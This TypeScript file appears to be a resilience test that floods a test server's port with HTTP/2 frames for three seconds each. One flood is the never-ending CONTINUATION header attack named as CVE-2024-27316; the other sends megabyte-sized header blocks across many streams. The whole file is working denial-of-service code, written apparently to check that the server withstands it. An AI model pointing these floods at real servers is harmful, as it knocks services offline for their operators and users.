import { FLAG, FRAME, frame, headerBlock, keepSending, SESSION_HEADERS } from '../wire/http2-frames.ts';
import { given, report } from './given.ts';

/** Headers that never end (CVE-2024-27316), and headers of a megabyte. */
const { nodes } = given();
const filler = headerBlock([['x-filler', 'x'.repeat(15_000)]]);
const endless = await keepSending({ port: nodes, forMs: 3_000 }, () => {
  let isFirst = true;
  return () => {
    const type = isFirst ? FRAME.headers : FRAME.continuation;
    const payload = isFirst ? headerBlock(SESSION_HEADERS) : filler;
    isFirst = false;
    return frame(type, 0, 1, payload);
  };
});
const huge = await keepSending({ port: nodes, forMs: 3_000 }, () => {
  let stream = -1;
  return () => {
    stream += 2;
    const rest = Array.from({ length: 70 }, (_, index) =>
      frame(FRAME.continuation, index === 69 ? FLAG.endHeaders : 0, stream, filler),
    );
    return Buffer.concat([frame(FRAME.headers, 0, stream, headerBlock(SESSION_HEADERS)), ...rest]);
  };
});
report({ endless, huge });
